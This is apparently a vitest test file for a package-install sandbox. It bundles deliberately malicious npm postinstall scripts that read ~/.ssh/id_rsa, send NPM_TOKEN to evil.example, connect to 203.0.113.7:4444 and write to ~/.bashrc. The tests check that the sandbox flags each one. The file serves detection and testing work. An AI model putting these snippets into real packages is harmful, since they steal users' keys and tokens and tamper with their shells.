import { createServer } from 'node:http'
import { describe, expect, test } from 'vitest'
import { tarball } from '../../support/tarball.ts'
import { aPackage, packageSubject, toolsOrReason, trial, wordsOf } from '../support.ts'

const tools = await toolsOrReason()

/** Each bad package travels inside one that is clean itself, so that one installation tries them all. */
const BAD: Readonly<Record<string, string>> = {
  thief: `
    const { readFileSync, writeFileSync } = require('node:fs')
    const { execFileSync } = require('node:child_process')
    const key = readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8')
    writeFileSync('/tmp/loot', key)
    require('node:net').connect(4444, '203.0.113.7').on('error', () => {})`,
  shell: `require('node:child_process').execSync('echo from a shell')`,
  settler: `require('node:fs').writeFileSync(process.env.HOME + '/.bashrc', 'echo mine')`,
  sleeper: `
    require('node:dns').resolve4('registry.example', (error) => {
      if (!error) require('node:fs').writeFileSync(process.env.HOME + '/.awake', 'yes')
    })`,
  caller: `require('node:http').get('http://evil.example/?t=' + process.env.NPM_TOKEN).on('error', () => {})`,
}

describe.skipIf(tools === null)('packages in the sandbox', () => {
  test('bad ones are found and named, and the clean one around them is not', {
    timeout: 60_000,
  }, async () => {
    if (!tools) return
    const archive = carrier()
    const result = await trial(tools, { subject: packageSubject('carrier', archive, ['install', 'import']) })
    expect(result.cutShort).toBe(false)
    const severe = wordsOf(result, 'severe')
    expect(severe).toEqual(
      expect.arrayContaining([
        'canaries: postinstall of thief read ~/.ssh/id_rsa (a canary)',
        'network: postinstall of thief tried to connect to 203.0.113.7:4444',
        'canaries: A planted secret was copied to tmp/loot',
        'files: postinstall of settler wrote ~/.bashrc',
        'files: postinstall of sleeper wrote ~/.awake',
        'network: postinstall of caller looked up evil.example',
        'network: postinstall of caller tried to connect to evil.example:80',
        expect.stringContaining('canaries: A planted secret was sent to evil.example:80'),
      ]),
    )
    expect(severe.filter((words) => /postinstall of shell|carrier/.test(words))).toEqual([])
    expect(wordsOf(result, 'notice')).toEqual(
      expect.arrayContaining([
        'processes: postinstall of shell started sh -c echo from a shell',
        'difference: Only with the network: postinstall of sleeper wrote ~/.awake',
      ]),
    )
    const everything = result.findings.map((finding) => finding.summary).join('\n')
    expect(everything).not.toMatch(/import (?:started|read|wrote|looked|tried)/)
    expect(result.stages.map(({ name, network, exitCode }) => [name, network, exitCode])).toEqual([
      ['install', 'off', 0],
      ['import', 'off', 0],
      ['install', 'observed', 0],
      ['import', 'observed', 0],
    ])
  })

  test('a clean one, with what it needs from the registry, is clean in every stage', {
    timeout: 60_000,
  }, async () => {
    if (!tools) return
    const registry = await registryDouble({ inner: aPackage('inner', {}, { 'index.js': 'exports.two = 2' }) })
    try {
      const manifest = { type: 'module', exports: './index.js', dependencies: { inner: '1.0.0' } }
      const archive = aPackage('outer', manifest, { 'index.js': `export { two } from 'inner'` })
      const smoke = `node -e "import('outer').then(({ two }) => process.exit(two === 2 ? 0 : 9))"`
      const stages = ['install without scripts', 'install', 'import', 'smoke'] as const
      const result = await trial(tools, {
        subject: packageSubject('outer', archive, stages, smoke),
        registry: registry.url,
        allowed: [{ host: '127.0.0.1', port: registry.port }],
      })
      expect(result.stages.map(({ exitCode }) => exitCode)).toEqual(Array(8).fill(0))
      expect(wordsOf(result, 'severe')).toEqual([])
      expect(wordsOf(result, 'notice')).toEqual([])
      expect(result.stages.flatMap(({ unseen }) => unseen)).toEqual([])
      expect(registry.asked()).toEqual(['/inner', '/inner.tgz'])
    } finally {
      registry.close()
    }
  })

  test('a package that cannot be fetched is no finding: nothing was run', { timeout: 60_000 }, async () => {
    if (!tools) return
    const archive = aPackage('lonely', { dependencies: { absent: '1.0.0' } }, {})
    const registry = await registryDouble({})
    const failing = trial(tools, {
      subject: packageSubject('lonely', archive, ['install']),
      registry: registry.url,
      allowed: [{ host: '127.0.0.1', port: registry.port }],
    })
    await expect(failing).rejects.toThrow(/could not be fetched/)
    registry.close()
  })
})

function carrier(): Uint8Array {
  const names = Object.keys(BAD)
  const manifest = (name: string) =>
    JSON.stringify({ name, version: '1.0.0', scripts: { postinstall: 'node act.js' } })
  const inside = names.flatMap((name) => [
    [`node_modules/${name}/package.json`, manifest(name)],
    [`node_modules/${name}/act.js`, BAD[name] ?? ''],
  ])
  const dependencies = Object.fromEntries(names.map((name) => [name, '1.0.0']))
  return tarball({
    'package.json': JSON.stringify({
      name: 'carrier',
      version: '1.0.0',
      dependencies,
      bundleDependencies: names,
    }),
    'index.js': 'module.exports = 1',
    ...Object.fromEntries(inside),
  })
}

async function registryDouble(packages: Readonly<Record<string, Uint8Array>>) {
  const asked: string[] = []
  const server = createServer((request, response) => {
    const path = request.url ?? '/'
    asked.push(path)
    const archive = packages[path.slice(1).replace(/\.tgz$/, '')]
    if (!archive) response.writeHead(404).end('{}')
    else if (path.endsWith('.tgz')) response.end(archive)
    else
      response
        .setHeader('content-type', 'application/json')
        .end(packument(path.slice(1), request.headers.host))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  const port = typeof address === 'object' && address !== null ? address.port : 0
  return {
    port,
    url: `http://127.0.0.1:${port}/`,
    asked: () => [...new Set(asked)],
    close: () => void server.close(),
  }
}

function packument(name: string, host: string | undefined): string {
  const dist = { tarball: `http://${host}/${name}.tgz` }
  const versions = { '1.0.0': { name, version: '1.0.0', dist } }
  return JSON.stringify({ name, 'dist-tags': { latest: '1.0.0' }, versions })
}
